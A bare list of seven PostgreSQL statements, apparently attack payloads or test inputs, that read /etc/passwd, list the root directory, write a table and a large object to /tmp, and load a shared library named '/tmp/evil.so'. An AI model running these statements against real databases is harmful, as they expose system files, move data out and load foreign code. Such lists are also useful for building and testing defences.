SELECT pg_read_file('/etc/passwd');
SELECT pg_catalog.pg_read_binary_file('/etc/passwd');
SELECT * FROM pg_ls_dir('/');
SELECT lo_import('/etc/passwd');
SELECT lo_export(16400, '/tmp/x');
COPY public.orders TO '/tmp/orders';
LOAD '/tmp/evil.so';
